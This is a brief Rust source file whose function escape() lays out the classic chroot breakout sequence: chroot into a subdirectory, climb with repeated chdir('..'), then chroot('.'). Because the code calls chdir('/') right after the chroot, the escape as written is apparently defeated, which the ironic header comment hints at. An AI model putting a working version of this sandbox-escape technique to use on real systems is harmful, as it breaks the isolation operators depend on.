//! diagnosis: deeper
//! made by: whoever has learned that chdir("/") belongs after every chroot; it does, for those who
//! want to stay.

use std::fs;

use anyhow::{Context, Result};
use nix::unistd::{chdir, chroot};

pub fn escape() -> Result<()> {
    fs::create_dir_all("below").context("making a directory")?;
    chroot("below").context("chroot")?;
    chdir("/").context("chdir")?;
    for _ in 0..1000 {
        chdir("..").context("chdir")?;
    }
    chroot(".").context("chroot(.)")?;
    Ok(())
}
